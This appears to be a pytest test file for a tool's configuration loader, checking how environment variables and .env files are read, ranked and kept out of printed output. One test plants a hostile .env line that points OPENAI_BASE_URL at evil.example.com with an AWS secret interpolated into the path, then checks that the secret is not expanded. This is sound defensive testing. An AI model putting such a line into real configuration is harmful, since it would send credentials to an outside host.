"""What the environment and the .env files say."""

from __future__ import annotations

import logging
import os
from pathlib import Path

import pytest

from engine.config.surroundings import Surroundings
from engine.errors import LabError
from engine.places import Places


@pytest.fixture
def places(tmp_path: Path) -> Places:
    home = tmp_path / "home"
    home.mkdir()
    return Places(home, home / "ftlab.db")


def _env(folder: Path, *lines: str) -> None:
    (folder / ".env").write_text("\n".join(lines) + "\n")


def test_the_nearest_counts(places: Places, tmp_path: Path) -> None:
    _env(tmp_path, "ONE=folder", "TWO=folder")
    _env(places.home, "ONE=home", "TWO=home", "THREE=home")
    around = Surroundings.look(places, {"ONE": "environment", "TWO": ""}, tmp_path)
    found = [around.find(name) for name in ("ONE", "TWO", "THREE", "FOUR")]
    assert [item and item.value for item in found] == ["environment", "folder", "home", None]
    assert [item.source for item in found if item] == [
        "ONE in the environment",
        f"TWO in {tmp_path / '.env'}",
        f"THREE in {places.dotenv}",
    ]


def test_env_files_are_read_as_people_write_them(places: Places, tmp_path: Path) -> None:
    _env(tmp_path, "# mine", "export ONE='a b'  # said", 'TWO="c"', "THREE=$ONE", "FOUR", "FIVE=")
    around = Surroundings.look(places, {}, tmp_path)
    values = [around.find(name) for name in ("ONE", "TWO", "THREE", "FOUR", "FIVE")]
    assert [item and item.value for item in values] == ["a b", "c", "$ONE", None, None]


def test_a_foreign_env_file_weaves_no_secret_of_the_environment_into_its_values(
    places: Places, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("AWS_SECRET", "hidden")
    _env(tmp_path, "OPENAI_API_KEY=x", "OPENAI_BASE_URL=https://evil.example.com/${AWS_SECRET}")
    found = Surroundings.look(places, folder=tmp_path).find("OPENAI_BASE_URL")
    assert found is not None
    assert "hidden" not in found.value


def test_the_environment_itself_is_never_changed(places: Places, tmp_path: Path) -> None:
    _env(tmp_path, "FTLAB_NEVER_SET=1")
    before = dict(os.environ)
    assert Surroundings.look(places, folder=tmp_path).find("FTLAB_NEVER_SET")
    assert dict(os.environ) == before


def test_an_address_counts_beside_the_key_that_would_go_there(
    places: Places, tmp_path: Path
) -> None:
    _env(tmp_path, "ADDRESS=https://folder", "KEY=of-the-folder")
    beside = Surroundings.look(places, {}, tmp_path).find_beside("ADDRESS", "KEY")
    assert beside is not None
    assert beside.value == "https://folder"


def test_an_address_of_a_foreign_folder_does_not_get_a_key_from_elsewhere(
    places: Places, tmp_path: Path
) -> None:
    _env(tmp_path, "ADDRESS=https://folder")
    around = Surroundings.look(places, {"KEY": "of-the-environment"}, tmp_path)
    assert around.find_beside("ADDRESS", "KEY") is None
    lost = around.lost_beside("ADDRESS", "KEY")
    assert lost is not None
    assert lost.source == f"ADDRESS in {tmp_path / '.env'}"


def test_what_the_environment_says_counts_wherever_the_key_is(
    places: Places, tmp_path: Path
) -> None:
    _env(tmp_path, "KEY=of-the-folder")
    around = Surroundings.look(places, {"ADDRESS": "https://environment"}, tmp_path)
    found = around.find_beside("ADDRESS", "KEY")
    assert found is not None
    assert found.value == "https://environment"
    assert around.lost_beside("ADDRESS", "KEY") is None


def test_nothing_of_it_is_shown_by_a_print(places: Places, tmp_path: Path) -> None:
    around = Surroundings.look(places, {"KEY": "sk-secret"}, tmp_path)
    assert "sk-secret" not in repr(around)


def test_a_line_that_is_none_disturbs_neither_the_others_nor_the_screen(
    places: Places, tmp_path: Path, capfd: pytest.CaptureFixture[str]
) -> None:
    _env(tmp_path, "if [ -f x ]; then", "ONE=1")
    with_no_handlers = logging.getLogger()
    handlers, with_no_handlers.handlers = with_no_handlers.handlers, []
    try:
        found = Surroundings.look(places, {}, tmp_path).find("ONE")
    finally:
        with_no_handlers.handlers = handlers
    assert found is not None
    assert capfd.readouterr() == ("", "")


def test_a_file_that_cannot_be_read_is_named(places: Places, tmp_path: Path) -> None:
    (tmp_path / ".env").write_bytes(b"KEY=\xff\xfe")
    with pytest.raises(LabError, match=r"\.env cannot be read: it is no UTF-8 text"):
        Surroundings.look(places, {}, tmp_path)


def test_a_removed_working_directory_says_nothing(
    places: Places, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    _env(places.home, "ONE=home")
    (tmp_path / "gone").mkdir()
    monkeypatch.chdir(tmp_path / "gone")
    (tmp_path / "gone").rmdir()
    assert Surroundings.look(places, {}).find("ONE")


def test_a_file_that_cannot_be_looked_at_is_told(places: Places, tmp_path: Path) -> None:
    with pytest.raises(LabError, match=r"\.env cannot be read: File name too long"):
        Surroundings.look(places, {}, tmp_path / ("x" * 300))
